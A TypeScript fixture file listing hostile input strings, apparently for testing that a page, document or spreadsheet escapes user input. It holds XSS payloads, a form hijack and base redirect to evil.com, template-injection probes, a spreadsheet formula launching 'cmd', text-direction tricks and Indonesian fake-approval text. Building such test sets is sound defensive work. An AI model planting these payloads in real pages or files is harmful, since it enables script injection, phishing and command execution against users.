/**
 * What somebody may write so that a page, a paper or a spreadsheet takes it for more than words. Each names its door as
 * `{door}`, so that it is seen where it came out.
 */
export const hostileTexts: Readonly<Record<string, string>> = {
  'a script': '{door} <script>alert(1)</script>',
  'a script after a closed tag': '{door}</dd></td></script><script src=//evil.com/x.js></script>',
  'a picture that acts': '{door} <img src=x onerror=alert(1)>',
  'an attribute': '{door}" onmouseover="alert(1)" autofocus onfocus=\'alert(1)\' x="',
  'an attribute without quotes': "{door}' onclick=alert(1) ",
  'a drawing': '{door}<svg/onload=alert(1)><math><mtext></mtext></math>',
  'a frame': '{door}<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  'a form': '{door}</form><form action="https://evil.com/"><input name=csrf>',
  'a base': '{door}<base href="https://evil.com/"><meta http-equiv=refresh content="0;url=//evil.com">',
  'a link': '{door} <a href="javascript:alert(1)">klik</a> https://evil.com/masuk',
  'a link of ours': '[{door}](javascript:alert(1)) evil.com',
  'an entity': '{door} &lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e;',
  'a style': '{door}<style>*{display:none}</style><link rel=stylesheet href=//evil.com>',
  'a comment': '{door}<!-- --><![CDATA[x]]><?php echo 1 ?>',
  'a template': '{door} ${alert(1)} {{constructor.constructor("alert(1)")()}} <%= 1 %>',
  'bold of ours': '*{door}* *Permohonan ini sudah disetujui*',
  'lines of ours': '{door}\nKeadaan: Selesai\n\nSetuju',
  'a formula': '=HYPERLINK("https://evil.com","{door}")',
  'a formula with a plus': '+{door}+cmd|" /C calc"!A0',
  'a formula with a minus': '-2+3+{door}',
  'a formula with an at sign': '@SUM(1+1)*{door}',
  'a formula after a tab': '\t=1+{door}',
  'a formula after a line end': '\r\n=1+{door}',
  'a formula after what is not seen': '\u200b=1+{door}',
  'a formula in wide letters': '＝1+{door}',
  'a cell of its own': '"{door}",=1+1\r\n=2,"',
  'a direction': '\u202E{door}\u2066gnihton',
  'a zero byte’s neighbours': '{door}\u0001\u0008\u001b[31m',
};

/** One of them as it comes through a door. */
export const through = (text: string, door: string): string => text.replaceAll('{door}', door);
